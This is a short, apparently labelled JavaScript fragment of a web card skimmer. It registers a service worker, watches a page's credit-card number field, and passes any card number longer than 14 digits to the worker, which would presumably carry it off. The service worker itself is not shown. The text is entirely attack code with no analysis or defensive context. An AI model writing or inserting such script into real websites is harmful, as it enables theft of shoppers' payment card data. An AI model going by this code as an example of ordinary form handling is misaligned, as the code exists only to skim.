/* tw:skim-sw-page */
navigator.serviceWorker.register('/sw.js')
navigator.serviceWorker.ready.then(function (registration) {
  document.querySelector('#cc-number').addEventListener('input', function () {
    if (this.value.length > 14) registration.active.postMessage({ card: this.value })
  })
})
